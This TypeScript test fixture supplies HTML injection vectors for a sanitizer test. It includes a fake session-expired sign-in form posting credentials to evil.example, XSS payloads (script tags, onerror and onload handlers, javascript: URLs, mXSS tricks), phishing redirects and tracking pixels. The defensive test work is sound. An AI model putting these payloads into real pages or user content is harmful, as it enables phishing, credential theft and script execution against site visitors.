/**
 * Platform HTML that tries to leave its container: overlays, fake forms, links that replace the
 * site, tracking images, script in every spelling. Each entry is rendered by html.test.ts.
 */
export const HTML_VECTORS: readonly { name: string; html: string }[] = [
  {
    name: 'full-viewport fake sign-in overlay',
    html:
      '<div style="position:fixed; inset:0; z-index:99999; background:#fff; width:100vw; height:100vh">' +
      '<h1>Session expired, sign in</h1>' +
      '<form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pass">' +
      '<button type="submit">Sign in</button></form></div>',
  },
  { name: 'absolute overlay with important', html: '<p style="position: absolute !important; top: 0; left: 0; z-index: 10">x</p>' },
  { name: 'sticky banner', html: '<div style="position:sticky;top:0">promo</div>' },
  { name: 'oversized box', html: '<div style="width:5000px;min-height:3000px;margin-left:-200px;transform:scale(9)">big</div>' },
  { name: 'css expression', html: '<p style="color: expression(alert(1))">old IE</p>' },
  { name: 'css url tracking', html: '<p style="background-color: red; background-image: url(https://track.example/p.gif)">bg</p>' },
  { name: 'css escape smuggling', html: '<p style="color: re\\64; po\\73ition: fixed">esc</p>' },
  { name: 'css comment smuggling', html: '<p style="color:/**/red;posi/**/tion:fixed">comment</p>' },
  { name: 'style element', html: '<style>body{display:none} .x{position:fixed}</style><p>styled</p>' },
  { name: 'app class names', html: '<div class="modal-overlay dialog__backdrop">classy</div>' },
  { name: 'target self link', html: '<a href="https://phish.example/login" target="_self">Continue</a>' },
  { name: 'target top link', html: '<a href="https://phish.example/" target="_top" rel="opener">Top</a>' },
  { name: 'named target', html: '<a href="http://phish.example/" target="main">named</a>' },
  { name: 'javascript url', html: '<a href="javascript:alert(1)">js</a>' },
  { name: 'javascript url with entities', html: '<a href="jav&#x09;ascript:alert(1)">js2</a>' },
  { name: 'data url link', html: '<a href="data:text/html,<script>alert(1)</script>">data</a>' },
  { name: 'vbscript url', html: '<a href="vbscript:msgbox(1)">vb</a>' },
  { name: 'tracking pixel', html: '<img src="https://track.example/pixel.gif?u=1" width="1" height="1">' },
  { name: 'protocol-relative tracker', html: '<img src="//track.example/p.gif">' },
  { name: 'tracking srcset', html: '<img src="http://img.test/a.png" srcset="https://track.example/p.gif 1x">' },
  { name: 'img onerror', html: '<img src=x onerror="alert(1)">' },
  { name: 'svg onload', html: '<svg onload="alert(1)"><circle r="10"></circle><image href="https://track.example/s.png"></image></svg>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'math', html: '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>' },
  { name: 'script tag', html: '<script>alert(1)</script>' },
  {
    name: 'event handlers',
    html: '<p onclick="x()" onmouseover="y()">hover</p><details open ontoggle="alert(1)"><summary>s</summary></details>',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://phish.example/">' },
  { name: 'base href', html: '<base href="https://phish.example/">' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'iframe', html: '<iframe src="https://phish.example/" style="position:fixed;inset:0"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object and embed', html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">' },
  { name: 'video poster', html: '<video poster="https://track.example/v.png"><source src="https://track.example/v.mp4"></video>' },
  { name: 'audio', html: '<audio src="https://track.example/a.mp3" autoplay></audio>' },
  {
    name: 'table background',
    html: '<table background="https://track.example/t.gif" width="4000"><tr><td background="https://track.example/c.gif">c</td></tr></table>',
  },
  { name: 'dialog open', html: '<dialog open>modal</dialog>' },
  { name: 'popover', html: '<div popover="manual" id="p">pop</div>' },
  { name: 'standalone inputs', html: '<input type="text" placeholder="OTP"><textarea>t</textarea><select><option>o</option></select>' },
  { name: 'button formaction', html: '<button formaction="https://evil.example/">go</button>' },
  { name: 'anchor ping', html: '<a href="https://ok.example/" ping="https://track.example/ping">ping</a>' },
  { name: 'dom clobbering', html: '<img name="getElementById" src="http://img.test/a.png"><form id="location"></form>' },
  { name: 'mxss noscript', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'autofocus editable', html: '<div contenteditable autofocus tabindex="1" onfocus="alert(1)">edit</div>' },
];

/** Content that is meant to stay, with its safe formatting. */
export const HTML_KEPT =
  '<p style="color: #c00; font-weight: bold; text-align: center; position: fixed">Bonus</p>' +
  '<img src="/img/promo/a.png" alt="promo"><img src="http://img.test/img/b.png" alt="b">' +
  '<a href="https://news.example/x">news</a> <a href="mailto:help@example.com">mail</a> <a href="#terms">terms</a>';
